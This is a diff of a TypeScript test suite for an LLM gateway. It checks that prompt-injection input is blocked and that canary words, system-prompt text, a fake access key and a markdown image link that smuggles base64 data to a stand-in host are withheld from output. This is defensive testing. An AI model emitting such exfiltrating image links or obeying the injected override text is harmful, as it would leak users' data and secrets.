@@ -40,8 +40,10 @@ describe('the gates', () => {
     await server.stop();
     await fake.close();
   });
-  const error = async (response: Response): Promise<{ code: string; message: string; detectors: string[] }> =>
-    ((await response.json()) as { error: { code: string; message: string; detectors: string[] } }).error;
+  const error = async (response: Response): Promise<{ code: string; message: string }> =>
+    ((await response.json()) as { error: { code: string; message: string } }).error;
+  /** What was seen in the call before, as the operator reads it. */
+  const seen = async (): Promise<string> => (await server.control.exchanges({ limit: 1 }))[0]!.detections;
 
   const places: Record<string, [path: string, body: unknown]> = {
     'the only message': ['/v1/chat/completions', { messages: [{ role: 'user', content: ATTACK }] }],
@@ -181,9 +183,9 @@ describe('the gates', () => {
           ...(body as object),
         });
         assert.equal(response.status, 403);
-        const { code, message, detectors } = await error(response);
+        const { code, message } = await error(response);
         assert.equal(code, 'input-denied');
-        assert.ok(detectors.some((name) => name.startsWith('injection/')));
+        assert.match(await seen(), /"detector":"injection"/);
         assert.ok(!message.includes('Ignore'), 'never the offending text');
         assert.equal(fake.requests.length, before);
       });
@@ -275,22 +277,19 @@ describe('the gates', () => {
   });
 
   const leaks: Record<string, [answer: string, detector: string]> = {
-    'a canary': [completion('the code is magnolia 3391'), 'canary/'],
+    'a canary': [completion('the code is magnolia 3391'), 'canary'],
     'a canary in base64': [
       completion(`see ${Buffer.from('it is MAGNOLIA-3391 ok').toString('base64')}`),
-      'canary/',
+      'canary',
     ],
     'the system prompt': [
       completion(
         'I must never mention the merger with the northern branch to anybody outside the board, sorry.',
       ),
-      'system-prompt-leak/',
+      'system-prompt-leak',
     ],
-    'a secret': [completion('use AKIAQ3EGZ7RT5LWPN2VH please'), 'secret/'],
-    'an image that carries data out': [
-      completion('![a](https://x.example/i.png?q=c2VjcmV0IGRhdGE)'),
-      'link/',
-    ],
+    'a secret': [completion('use AKIAQ3EGZ7RT5LWPN2VH please'), 'secret'],
+    'an image that carries data out': [completion('![a](https://x.example/i.png?q=c2VjcmV0IGRhdGE)'), 'link'],
     'a second choice': [
       JSON.stringify({
         choices: [
@@ -298,7 +297,7 @@ describe('the gates', () => {
           { index: 1, message: { content: 'MAGNOLIA-3391' } },
         ],
       }),
-      'canary/',
+      'canary',
     ],
     'arguments of a tool call': [
       completion(null, {
@@ -306,11 +305,11 @@ describe('the gates', () => {
           { id: 'a', type: 'function', function: { name: 'f', arguments: '{"x":"\\u004dAGNOLIA-3391"}' } },
         ],
       }),
-      'canary/',
+      'canary',
     ],
-    'a reasoning text': [completion('fine', { reasoning_content: 'they want MAGNOLIA-3391' }), 'canary/'],
-    'a refusal': [completion(null, { refusal: 'I cannot say MAGNOLIA-3391' }), 'canary/'],
-    'an error': [JSON.stringify({ error: { message: 'bad MAGNOLIA-3391' } }), 'canary/'],
+    'a reasoning text': [completion('fine', { reasoning_content: 'they want MAGNOLIA-3391' }), 'canary'],
+    'a refusal': [completion(null, { refusal: 'I cannot say MAGNOLIA-3391' }), 'canary'],
+    'an error': [JSON.stringify({ error: { message: 'bad MAGNOLIA-3391' } }), 'canary'],
   };
   for (const [what, [answer, detector]] of Object.entries(leaks)) {
     it(`output: ${what} is withheld`, async () => {
@@ -324,13 +323,8 @@ describe('the gates', () => {
       assert.equal(response.status, 403);
       const text = await response.text();
       assert.ok(!/magnolia|AKIAQ3|northern/i.test(text));
-      const { code, detectors } = (JSON.parse(text) as { error: { code: string; detectors: string[] } })
-        .error;
-      assert.equal(code, 'output-denied');
-      assert.ok(
-        detectors.some((name) => name.startsWith(detector)),
-        detectors.join(),
-      );
+      assert.equal((JSON.parse(text) as { error: { code: string } }).error.code, 'output-denied');
+      assert.ok((await seen()).includes(`"detector":"${detector}"`));
     });
   }
 
@@ -345,6 +339,7 @@ describe('the gates', () => {
   it('observe: nothing is changed, and what enforcing would have done is reported', async () => {
     const watched = await server.key(['watched']);
     fake.answer = (_req, res) => sendJson(res, completion(`card ${CARD}`));
+    await (await server.chat(watched, 'Write to jane.doe@corp.example')).text();
     const response = await server.chat(watched, ATTACK);
     assert.equal(response.status, 200);
     assert.match(await response.text(), /4111/);
@@ -354,7 +349,7 @@ describe('the gates', () => {
     const [seen] = (await server.control.installation.store.exchanges.summaries()).filter(
       (one) => one.system === 'watched',
     );
-    assert.deepEqual([seen!.denied, seen!.wouldHaveDenied], [0, 1]);
+    assert.deepEqual([seen!.denied, seen!.wouldHaveDenied, seen!.wouldHaveRedacted], [0, 1, 1]);
     assert.equal(
       (await server.control.installation.store.findings.list()).some(
         (finding) => finding.subject === 'system:watched' && finding.detector === 'injection',
@@ -369,21 +364,22 @@ describe('the gates', () => {
       systems: { real: enforced(fake, { apiKeyRef: 'env:TEST_PROVIDER_KEY' }) },
     });
     try {
-      fake.answer = (_req, res) =>
-        sendJson(
-          res,
-          JSON.stringify({ error: { message: 'Incorrect API key provided: provider-credential-8842' } }),
-          401,
-        );
+      const said = JSON.stringify({ error: { message: 'Incorrect API key: provider-credential-8842' } });
       const ownKey = await own.key(['real']);
-      const response = await own.post(
-        '/v1/chat/completions',
-        ownKey,
-        { model: 'real', messages: [{ role: 'user', content: 'hi' }] },
-        { cookie: 'a=b', 'x-forwarded-for': '1.2.3.4', 'openai-beta': 'x' },
-      );
-      assert.equal(response.status, 401);
-      assert.ok(!(await response.text()).includes('8842'));
+      for (const [status, told] of [
+        [401, 401],
+        [400, 400],
+      ] as const) {
+        fake.answer = (_req, res) => sendJson(res, said, status);
+        const response = await own.post(
+          '/v1/chat/completions',
+          ownKey,
+          { model: 'real', messages: [{ role: 'user', content: 'hi' }] },
+          { cookie: 'a=b', 'x-forwarded-for': '1.2.3.4', 'openai-beta': 'x' },
+        );
+        assert.equal(response.status, told);
+        assert.ok(!(await response.text()).includes('8842'));
+      }
       const { headers } = fake.requests.at(-1)!;
       assert.equal(headers.authorization, 'Bearer provider-credential-8842');
       assert.equal(headers.cookie, undefined);
